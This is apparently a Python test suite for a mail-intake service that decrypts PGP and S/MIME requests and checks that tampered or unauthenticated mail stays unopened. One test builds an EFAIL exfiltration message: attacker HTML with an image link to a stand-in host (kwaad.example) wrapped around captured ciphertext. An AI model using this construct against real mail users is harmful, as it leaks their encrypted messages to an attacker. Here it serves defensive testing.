#!/usr/bin/env python3
"""Mail that gpg encrypted to us is opened and filed; what is not protected against changes, or only looks like one thing, is not."""
import base64
import email.message
import pathlib
import random
import shutil
import smtplib
import subprocess
import sys
import unittest

from instance import Instance, eventually

BINARIES = sys.argv.pop(1)
ASKS = "Graag wil ik mijn persoonsgegevens inzien (AVG artikel 15).\r\n"
PDF = b"%PDF-1.4\nMARKER-BIJLAGE\n" + b"x" * 1111 + b"\n%%EOF\n"


def entity(text=ASKS, attachment=PDF):
    inner = email.message.EmailMessage()
    inner["Subject"] = "Beschermd onderwerp"
    inner.set_content(text)
    if attachment:
        inner.add_attachment(attachment, maintype="application", subtype="pdf", filename="verzoek.pdf")
    return inner.as_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def outer(body_type, body, sender):
    return (f"From: <{sender}>\r\nTo: <post@ciz.example>\r\nSubject: ...\r\nMessage-ID: <{random.getrandbits(64):x}@burger.example>\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: {body_type}\r\n").encode() + body


def pgp_mime(armour, sender="jan@burger.example"):
    return outer('multipart/encrypted; protocol="application/pgp-encrypted"; boundary="b"', b"\r\n--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
                 b"--b\r\nContent-Type: application/octet-stream\r\n\r\n" + armour + b"\r\n--b--\r\n", sender)


class EncryptedMailTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.zone = Instance(BINARIES)
        cls.addClassCleanup(cls.zone.close)
        cls.jan = cls.zone.folder / "jan"
        cls.jan.mkdir(mode=0o700)
        cls.addClassCleanup(lambda: subprocess.run(["gpgconf", "--homedir", cls.jan, "--kill", "all"], check=False))
        cls.gpg("--quick-generate-key", "Jan <jan@burger.example>", "future-default")
        exported = subprocess.run(["gpg", "--homedir", cls.zone.zone / "data/keys/public", "--armor", "--export"], capture_output=True, check=True).stdout
        cls.gpg("--import", stdin=exported)
        cls.seal = cls.zone.zone / "seal/certificate.pem"
        former = cls.zone.zone / "data/keys/smime"
        former.mkdir(mode=0o700)
        cls.former, cls.strange, cls.signer = former / "2024.pem", cls.zone.folder / "strange.pem", cls.zone.folder / "signer.pem"
        for certificate in (cls.former, cls.strange, cls.signer):
            subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "9", "-subj", "/CN=Proef/emailAddress=jan@burger.example", "-keyout",
                            certificate.with_suffix(".key"), "-out", certificate], check=True, capture_output=True)
        cls.zone.start("keymaker", "broker", "mail", "worker")

    @classmethod
    def gpg(cls, *arguments, stdin=b""):
        return subprocess.run(["gpg", "--homedir", cls.jan, "--batch", "--yes", "--passphrase", "", "--trust-model", "always", *arguments], input=stdin,
                              capture_output=True, check=True).stdout

    def encrypted(self, plain, *options):
        zone = self.zone.config.read_text().split("zone_fingerprint: ")[1][:40]
        return self.gpg("--armor", "--recipient", zone, "--encrypt", *options, stdin=plain)

    def smime(self, plain, cipher, certificate=None):
        der = subprocess.run(["openssl", "cms", "-binary", "-encrypt", f"-{cipher}", "-outform", "DER", certificate or self.seal], input=plain, capture_output=True,
                             check=True).stdout
        return outer("application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m", b"Content-Transfer-Encoding: base64\r\n\r\n"
                     + base64.encodebytes(der).replace(b"\n", b"\r\n"), "jan@burger.example")

    def file(self, raw):
        """The kind that the text asks for, and the sizes of the documents."""
        before = {row[0] for row in self.zone.rows("SELECT id FROM dossiers")}
        with smtplib.LMTP("127.0.0.1", self.zone.lmtp_port) as door:
            door.sendmail("jan@burger.example", ["post@ciz.example"], raw)
        new = lambda: [row for row in self.zone.rows("SELECT id, kind FROM dossiers") if row[0] not in before]  # noqa: E731
        self.assertTrue(eventually(new, 60), self.zone.log("worker"))
        dossier, kind = new()[0]
        return kind, sorted(row[0] for row in self.zone.rows("SELECT bytes FROM objects WHERE dossier = ? AND role = 'original'", dossier))

    OPENED = ("avg-inzage", [len(PDF)])

    def test_pgp_mime_is_opened(self):
        self.assertEqual(self.file(pgp_mime(self.encrypted(entity()))), self.OPENED)
        self.assertEqual(self.file(pgp_mime(self.encrypted(entity(), "--sign"))), self.OPENED)

    def test_inline_openpgp_is_opened_with_its_attachments(self):
        message = email.message.EmailMessage()
        message["From"], message["To"], message["Subject"] = "<jan@burger.example>", "post@ciz.example", "..."
        message.set_content(self.encrypted(ASKS.encode()).decode())
        message.add_attachment(self.encrypted(PDF), maintype="application", subtype="octet-stream", filename="verzoek.pdf.pgp")
        self.assertEqual(self.file(message.as_bytes()), self.OPENED)

    def signed(self, plain, *options):
        return subprocess.run(["openssl", "cms", "-binary", "-sign", "-signer", self.signer, "-inkey", self.signer.with_suffix(".key"), *options], input=plain,
                              capture_output=True, check=True).stdout.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")

    def test_smime_that_shows_changes_is_opened(self):
        for certificate in (self.seal, self.former):
            for cipher in ("aes-256-gcm", "aes-128-gcm"):
                self.assertEqual(self.file(self.smime(entity(), cipher, certificate)), self.OPENED)

    def test_smime_whose_type_a_server_on_the_way_changed_is_opened(self):
        raw = self.smime(self.signed(entity()), "aes-256-cbc")
        changed = raw.replace(b"application/pkcs7-mime; smime-type=enveloped-data;", b"application/octet-stream;")
        self.assertNotEqual(raw, changed)
        kind, sizes = self.file(changed)
        self.assertEqual(kind, "avg-inzage")
        self.assertIn(len(PDF), sizes)
        signed = self.signed(entity(), "-nodetach").replace(b"application/pkcs7-mime; smime-type=signed-data;", b"application/octet-stream;")
        self.assertEqual(self.file(b"From: <jan@burger.example>\r\nTo: <post@ciz.example>\r\nSubject: ...\r\n" + signed)[0], "avg-inzage")

    def test_smime_of_old_programs_is_opened_when_it_is_signed_inside(self):
        for signed in (self.signed(entity()), self.signed(entity(), "-nodetach")):
            kind, sizes = self.file(self.smime(signed, "aes-256-cbc"))
            self.assertEqual(kind, "avg-inzage")
            self.assertIn(len(PDF), sizes)

    def test_smime_that_anybody_may_have_changed_stays_closed(self):
        """EFAIL: AES-CBC lets an attacker put own blocks between those of the message."""
        kind, sizes = self.file(self.smime(entity(), "aes-256-cbc"))
        self.assertEqual((kind, len(sizes)), ("onbekend", 1))
        signed = self.signed(entity())
        broken = signed.replace(b"persoonsgegevens", b"persoonsGEGEVENS")
        self.assertNotEqual(signed, broken)
        self.assertEqual(self.file(self.smime(broken, "aes-256-cbc"))[0], "onbekend")
        beside = outer('multipart/mixed; boundary="x"', b"\r\n--x\r\n" + signed.split(b"MIME-Version: 1.0\r\n", 1)[1] + b"\r\n--x\r\n\r\n" + ASKS.encode() + b"\r\n--x--\r\n",
                       "jan@burger.example")
        self.assertEqual(self.file(self.smime(beside, "aes-256-cbc"))[0], "onbekend", "a signed part says nothing about what stands beside it")

    def test_smime_for_somebody_else_or_damaged_waits_for_a_person(self):
        self.assertEqual(self.file(self.smime(entity(), "aes-256-gcm", self.strange))[0], "onbekend")
        raw = self.smime(entity(), "aes-256-gcm")
        head, body = raw.split(b"\r\n\r\n", 1)
        der = bytearray(base64.decodebytes(body))
        der[-40] ^= 1
        self.assertEqual(self.file(head + b"\r\n\r\n" + base64.encodebytes(bytes(der)))[0], "onbekend")
        self.assertEqual(self.file(head + b"\r\n\r\n" + base64.encodebytes(bytes(der[:200])))[0], "onbekend")

    def test_openpgp_without_protection_against_changes_stays_closed(self):
        self.assertEqual(self.file(pgp_mime(self.encrypted(entity(), "--rfc2440", "--disable-mdc")))[0], "onbekend")

    def test_a_message_of_somebody_else_between_parts_of_another_is_not_opened(self):
        """EFAIL: the attacker's HTML before and after a captured message."""
        for captured in (b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                         + self.smime(entity(), "aes-256-gcm").split(b"\r\n\r\n", 1)[1],
                         pgp_mime(self.encrypted(entity())).split(b"MIME-Version: 1.0\r\n", 1)[1]):
            raw = outer('multipart/mixed; boundary="efail"', b'\r\n--efail\r\nContent-Type: text/html\r\n\r\n<img src="http://kwaad.example/\r\n--efail\r\n' + captured +
                        b'\r\n--efail\r\nContent-Type: text/html\r\n\r\n">\r\n--efail--\r\n', "eve@kwaad.example")
            kind, sizes = self.file(raw)
            self.assertEqual(kind, "onbekend")
            self.assertNotIn(len(PDF), sizes)
        armour = self.encrypted(ASKS.encode()).decode()
        message = email.message.EmailMessage()
        message["From"], message["To"] = "<eve@kwaad.example>", "post@ciz.example"
        message.set_content("Lees dit:\n" + armour + "\nen antwoord met de tekst erbij.\n")
        self.assertEqual(self.file(message.as_bytes())[0], "onbekend")

    def test_what_is_not_for_us_or_damaged_waits_for_a_person(self):
        self.assertEqual(self.file(pgp_mime(self.gpg("--armor", "--recipient", "jan@burger.example", "--encrypt", stdin=entity())))[0], "onbekend")
        armour = self.encrypted(entity())
        lines = armour.split(b"\n")
        lines[len(lines) // 2] = lines[len(lines) // 2][::-1]
        self.assertEqual(self.file(pgp_mime(b"\n".join(lines)))[0], "onbekend")
        self.assertEqual(self.zone.balance().returncode, 0)

    @classmethod
    def tearDownClass(cls):
        for path in (cls.zone.zone / "data").rglob("*"):
            if path.is_file():
                content = path.read_bytes()
                assert b"MARKER-BIJLAGE" not in content and b"persoonsgegevens" not in content, path
        shutil.rmtree(pathlib.Path(cls.jan), ignore_errors=True)


if __name__ == "__main__":
    unittest.main(verbosity=2)
